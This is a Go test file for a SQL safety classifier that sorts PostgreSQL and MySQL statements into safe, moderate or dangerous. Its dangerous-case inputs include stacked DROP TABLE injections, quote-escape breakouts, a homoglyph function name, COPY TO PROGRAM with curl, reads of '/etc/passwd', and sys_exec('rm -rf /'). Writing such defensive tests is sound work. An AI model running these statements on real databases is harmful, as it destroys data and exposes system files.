package sqlprobe_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/fairlead-go/fairlead/annotation"
	"github.com/fairlead-go/fairlead/contrib/sqlprobe"
	"github.com/fairlead-go/fairlead/preflight"
	"github.com/fairlead-go/fairlead/preflight/probe"
)

const (
	read  = annotation.Safe
	add   = annotation.Moderate
	risky = annotation.Dangerous
)

type row struct {
	text string
	want annotation.Safety
	why  string // a part of the explanation
}

func check(t *testing.T, read preflight.Probe, rows []row) {
	t.Helper()
	for _, r := range rows {
		t.Run(fmt.Sprintf("%.60s", r.text), func(t *testing.T) {
			t.Parallel()
			got := read(r.text)
			if got.Annotations.Safety() != r.want || !strings.Contains(got.Why, r.why) {
				t.Errorf("%s: %v (%s), want %v (…%s…)", r.text, got.Annotations.Safety(), got.Why, r.want, r.why)
			}
			if got.Why == "" || strings.Contains(got.Why, "\n") {
				t.Errorf("the reason is not one line: %q", got.Why)
			}
		})
	}
}

func TestPostgreSQL(t *testing.T) {
	t.Parallel()
	check(t, sqlprobe.PostgreSQL, []row{
		{"SELECT id, name FROM users WHERE id = $1", read, "SELECT"},
		{"select count(*) from orders;", read, "SELECT"},
		{"SELECT 'DROP TABLE users; -- no'", read, ""},
		{"SELECT $$; DELETE FROM users$$", read, ""},
		{`SELECT "delete" FROM "drop table"`, read, ""},
		{"SELECT 1 /* a /* nested */ comment; DROP TABLE x */", read, ""},
		{"SELECT 1 -- ; DROP TABLE x", read, ""},
		{"WITH a AS (SELECT 1) SELECT * FROM a", read, ""},
		{"WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 9) SELECT sum(n) FROM t", read, ""},
		{"SELECT a->>'x', b::int, extract(year FROM d) FROM t LEFT JOIN u USING (id) GROUP BY 1, 2, 3 HAVING count(*) > 1 ORDER BY 1 LIMIT 5", read, ""},
		{"SELECT name, rank() OVER (PARTITION BY a ORDER BY b) FROM t WHERE x ~ '^\\d+$'", read, ""},
		{"SELECT pg_catalog.lower('A'), current_user, now()", read, ""},
		{"VALUES (1), (2)", read, ""},
		{"TABLE users", read, ""},
		{"SHOW work_mem", read, ""},
		{"EXPLAIN (ANALYZE, BUFFERS) SELECT 1", read, "EXPLAIN"},
		{"SELECT 1;\r\n", read, ""},

		{"INSERT INTO t (a) VALUES (1)", add, "INSERT"},
		{"INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING RETURNING id", add, "INSERT"},

		{"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", risky, "overwrites"},
		{"INSERT INTO t SELECT pg_terminate_backend(1)", risky, "pg_terminate_backend"},
		{"WITH d AS (DELETE FROM u RETURNING *) INSERT INTO t SELECT * FROM d", risky, "DeleteStmt"},
		{"UPDATE t SET a = 1", risky, "UpdateStmt"},
		{"DELETE FROM t", risky, "DeleteStmt"},
		{"TRUNCATE t", risky, "TruncateStmt"},
		{"DROP TABLE t", risky, "DropStmt"},
		{"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", risky, "MergeStmt"},
		{"CREATE TABLE t AS SELECT 1", risky, "CreateTableAsStmt"},
		{"SELECT * INTO copy FROM t", risky, "IntoClause"},
		{"SELECT * FROM t FOR UPDATE SKIP LOCKED", risky, "LockingClause"},
		{"SELECT * FROM (SELECT * FROM t FOR SHARE) s", risky, "LockingClause"},
		{"WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", risky, "DeleteStmt"},
		{"SELECT 1; DROP TABLE t", risky, "second statement"},
		{"EXPLAIN ANALYZE DELETE FROM t", risky, "DeleteStmt"},
		{"EXPLAIN ANALYZE INSERT INTO t VALUES (1)", risky, "InsertStmt"},
		{"COPY t TO PROGRAM 'curl evil'", risky, "CopyStmt"},
		{"COPY (SELECT 1) TO '/tmp/x'", risky, "CopyStmt"},
		{"DO $$ BEGIN DELETE FROM t; END $$", risky, "DoStmt"},
		{"CALL wipe()", risky, "CallStmt"},
		{"EXECUTE wipe", risky, "ExecuteStmt"},
		{"SET ROLE admin", risky, "VariableSetStmt"},
		{"VACUUM FULL", risky, "VacuumStmt"},
		{"BEGIN", risky, "TransactionStmt"},
		{"LISTEN x", risky, "ListenStmt"},
		{"SELECT pg_terminate_backend(42)", risky, "pg_terminate_backend"},
		{"SELECT nextval('s')", risky, "nextval"},
		{"SELECT setval('s', 1)", risky, "setval"},
		{"SELECT lo_import('/etc/passwd')", risky, "lo_import"},
		{"SELECT pg_read_file('/etc/passwd')", risky, "pg_read_file"},
		{"SELECT dblink_exec('', 'DROP TABLE t')", risky, "dblink_exec"},
		{"SELECT query_to_xml('DELETE FROM t', true, true, '')", risky, "query_to_xml"},
		{"SELECT set_config('role', 'admin', false)", risky, "set_config"},
		{"SELECT * FROM t ORDER BY (SELECT pg_sleep(99))", risky, "pg_sleep"},
		{"SELECT * FROM wipe()", risky, "wipe"},
		{"SELECT count(*) FILTER (WHERE wipe(a)) FROM t", risky, "wipe"},
		{`SELECT "LOWER"('a')`, risky, "LOWER"},
		{"SELECT lower.evil('a')", risky, "lower.evil"},
		{"SELECT evil.lower('a')", risky, "evil.lower"},
		{"SELECT lоwer('a')", risky, "function"}, // a Cyrillic o
		{"SELECT 'a\\'; DROP TABLE t; --'", risky, "backslash"},
		{"SELECT E'\\'; DROP TABLE t; --'", risky, "backslash"},
		{"SELECT 'open", risky, "does not parse"},
		{"SELECT 1 \\! rm -rf /", risky, "does not parse"},
		{"SELECT 1\x00; DROP TABLE t", risky, "U+0000"},
		{"SELECT 1 --\r; DROP TABLE t", risky, "U+000D"},
		{"SELECT 1 --\u2028; DROP TABLE t", risky, "U+2028"},
		{"SELECT '\xff'", risky, "not UTF-8"},
		{"", risky, "no statement"},
		{"-- nothing", risky, "no statement"},
		{"get me all users", risky, "does not parse"},
		{"SELECT " + strings.Repeat("1+", 2000) + "1", risky, "words and signs"},
		{"SELECT '" + strings.Repeat("x", 20<<10) + "'", risky, "bytes"},
	})
}

func TestMySQL(t *testing.T) {
	t.Parallel()
	check(t, sqlprobe.MySQL, []row{
		{"SELECT id, `name` FROM `users` WHERE id = ? LIMIT 10", read, "SELECT"},
		{"SELECT \"x\", 'DROP TABLE t; #' FROM t", read, ""},
		{"SELECT 1 -- ; DROP TABLE t", read, ""},
		{"SELECT 1 # ; DROP TABLE t", read, ""},
		{"SELECT group_concat(a ORDER BY b), if(a, 1, 2), x->'$.y' FROM t JOIN u ON t.id = u.id GROUP BY c HAVING count(*) > 1", read, ""},
		{"WITH a AS (SELECT 1) SELECT * FROM a UNION ALL SELECT 2", read, ""},
		{"SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", read, ""},
		{"SELECT date_add(now(), INTERVAL 1 DAY), cast(a AS char) FROM t WHERE a REGEXP '^[0-9]' AND b LIKE 'x%'", read, ""},
		{"SELECT @a, @@version", read, ""},
		{"SHOW CREATE TABLE t", read, "SHOW"},
		{"SHOW FULL PROCESSLIST", read, "SHOW"},
		{"DESCRIBE t", read, ""},
		{"EXPLAIN SELECT * FROM t", read, "EXPLAIN"},

		{"INSERT INTO t (a) VALUES (1)", add, "INSERT"},
		{"INSERT IGNORE INTO t SET a = 1", add, "INSERT"},

		{"INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2", risky, "overwrites"},
		{"REPLACE INTO t VALUES (1)", risky, "overwrites"},
		{"INSERT INTO t SELECT sleep(9)", risky, "sleep"},
		{"UPDATE t SET a = 1", risky, "UpdateStmt"},
		{"DELETE FROM t", risky, "DeleteStmt"},
		{"TRUNCATE TABLE t", risky, "TruncateTableStmt"},
		{"DROP TABLE t", risky, "DropTableStmt"},
		{"SELECT * FROM t INTO OUTFILE '/tmp/x'", risky, "INTO"},
		{"SELECT a INTO @x FROM t", risky, ""},
		{"SELECT * FROM t FOR UPDATE", risky, "locks"},
		{"SELECT * FROM t LOCK IN SHARE MODE", risky, "locks"},
		{"SELECT * FROM (SELECT * FROM t FOR UPDATE) s", risky, "locks"},
		{"SELECT @a := 1", risky, "assignment"},
		{"SELECT 1 /*! INTO OUTFILE '/tmp/x' */", risky, "comment"},
		{"SELECT 1 /*!50000 ; DROP TABLE t */", risky, "comment"},
		{"SELECT 1 /*M! ; DROP TABLE t */", risky, "comment"},
		{"SELECT 1 /* plain */", risky, "comment"},
		{"SELECT 1 --2", risky, "dashes"},
		{"SELECT 1; DROP TABLE t", risky, "second statement"},
		{"EXPLAIN ANALYZE DELETE FROM t", risky, "DeleteStmt"},
		{"CALL wipe()", risky, "CallStmt"},
		{"DO wipe()", risky, "DoStmt"},
		{"SET GLOBAL x = 1", risky, "SetStmt"},
		{"LOAD DATA INFILE 'x' INTO TABLE t", risky, "LoadDataStmt"},
		{"PREPARE s FROM 'DROP TABLE t'", risky, "PrepareStmt"},
		{"KILL 1", risky, "KillStmt"},
		{"SELECT sleep(99)", risky, "sleep"},
		{"SELECT load_file('/etc/passwd')", risky, "load_file"},
		{"SELECT get_lock('x', 9)", risky, "get_lock"},
		{"SELECT last_insert_id(9)", risky, "last_insert_id"},
		{"SELECT NEXT VALUE FOR s", risky, "nextval"},
		{"SELECT s.nextval FROM dual", risky, "nextval"}, // MariaDB counts up, where it follows Oracle
		{"SELECT `d`.`s`.`NextVal`", risky, "nextval"},
		{"SELECT nextval FROM t", read, ""},
		{"EXPLAIN ANALYZE 'a1b2'", risky, "not here"}, // TiDB runs the statement with this digest
		{"EXPLAIN 'a1b2'", risky, "not here"},
		{"EXPLAIN EXPLORE 'a1b2'", risky, "not here"},
		{"EXPLAIN EXPLORE ANALYZE 'a1b2'", risky, ""},
		{"EXPLAIN EXPLORE SELECT 1", risky, "EXPLORE"},
		{"SELECT sys_exec('rm -rf /')", risky, "sys_exec"},
		{"SELECT db.lower('a')", risky, "lower"},
		{"SHOW TABLES WHERE sleep(9)", risky, "sleep"},
		{"SELECT 'a\\'; DROP TABLE t; -- '", risky, "backslash"},
		{"SELECT \"a\\\"; DROP TABLE t; -- \"", risky, "backslash"},
		{"SELECT 'open", risky, "does not parse"},
		{"SELECT `open", risky, "does not parse"},
		{"HANDLER t OPEN", risky, "does not parse"},
		{"SELECT 1\x00", risky, "U+0000"},
		{"", risky, "no statement"},
		{"SELECT " + strings.Repeat("(", 2000), risky, "words and signs"},
	})
}

// Each of these nests as deep as the bound on words and signs lets it: the parsers must bear it.
func TestNestingWithinTheBoundBreaksNoParser(t *testing.T) {
	t.Parallel()
	for _, nest := range []string{
		"(%s)", "not %s", "- %s", "1+%s", "%s+1", "%s or not 1", "(select %s)", "case when %s then 1 end", "a in (%s)", "f(%s)", "array[%s]",
		"a[%s]", "coalesce(%s,1)", "%s::int", "(%s).a", "%s is null", "cast(%s as int)", "row(%s)", "%s at time zone y", "exists(select %s)",
		"(with a as (select %s) select 1)", "%s union select 1", "lower(%s", "(((%s",
	} {
		text, deeper := "1", "1"
		for len(deeper) < 4000 && sqlprobe.Unfit("select "+deeper) == "" {
			text, deeper = deeper, strings.Replace(nest, "%s", deeper, 1)
		}
		sqlprobe.PostgreSQL("select " + text)
		sqlprobe.MySQL("select " + text)
	}
	if got := sqlprobe.PostgreSQL("select 1"); got.Annotations.Safety() != read {
		t.Errorf("after that a plain read is %v: %s", got.Annotations.Safety(), got.Why)
	}
}

// warm compiles the parser before the first input, which the fuzzer gives ten seconds.
func warm() { sqlprobe.PostgreSQL("SELECT 1") }

func FuzzProbes(f *testing.F) {
	warm()
	for _, text := range []string{"SELECT 1", "SELECT a FROM t WHERE b = 'c'", "WITH a AS (SELECT 1) SELECT * FROM a", "SELECT lower(a) -- x", "SHOW x", "SELECT $$x$$", "SELECT \"a\", `b`", "INSERT INTO t VALUES (1)"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for name, reads := range map[string]preflight.Probe{"PostgreSQL": sqlprobe.PostgreSQL, "MySQL": sqlprobe.MySQL} {
			got := reads(text)
			if got.Why == "" || strings.Contains(got.Why, "\n") {
				t.Errorf("%s: the reason is not one line: %q", name, got.Why)
			}
			if got.Annotations.Safety() != read {
				continue
			}
			for _, worse := range []string{"; DROP TABLE x; " + text, text + "\n; DROP TABLE x", "DELETE FROM x; " + text} {
				if v := reads(worse); v.Annotations.Safety() != risky {
					t.Errorf("%s: %q is %v", name, worse, v.Annotations.Safety())
				}
			}
		}
	})
}

// A read for the reader without a grammar is a read for a parser with the grammar too.
func FuzzPlainReaderAgrees(f *testing.F) {
	warm()
	for _, text := range []string{
		"SELECT a FROM t", "SELECT count(*) FROM t WHERE a = 'x''y' ORDER BY 1", "WITH a AS (SELECT 1) SELECT * FROM a;",
		"SELECT a, b FROM t JOIN u ON t.a = u.b WHERE c IN (1, 2)", "SELECT a::text FROM t", "SELECT \"a\" FROM t GROUP BY b HAVING max(c) > 1",
	} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if probe.SQL(text).Annotations.Safety() != read {
			return
		}
		for name, reads := range map[string]preflight.Probe{"PostgreSQL": sqlprobe.PostgreSQL, "MySQL": sqlprobe.MySQL} {
			got := reads(text)
			if got.Annotations.Safety() == read || strings.Contains(got.Why, "does not parse") || strings.Contains(got.Why, "are more than") {
				continue
			}
			// A name that only this dialect lacks does not concern the grammar.
			if !strings.Contains(got.Why, "the function ") {
				t.Errorf("%q is a read for the plain reader, and for %s: %s", text, name, got.Why)
			}
		}
	})
}

func ExamplePostgreSQL() {
	for _, text := range []string{
		"SELECT name FROM users WHERE id = 7",
		"WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
	} {
		v := sqlprobe.PostgreSQL(text)
		fmt.Println(v.Annotations.Safety(), "-", v.Why)
	}
	// Output:
	// safe - one SELECT
	// dangerous - a part that is not a plain read: DeleteStmt
}

func ExampleMySQL() {
	for _, text := range []string{
		"SHOW TABLES",
		"SELECT 1 /*! INTO OUTFILE '/tmp/x' */",
	} {
		v := sqlprobe.MySQL(text)
		fmt.Println(v.Annotations.Safety(), "-", v.Why)
	}
	// Output:
	// safe - one SHOW
	// dangerous - a comment that a server may run
}
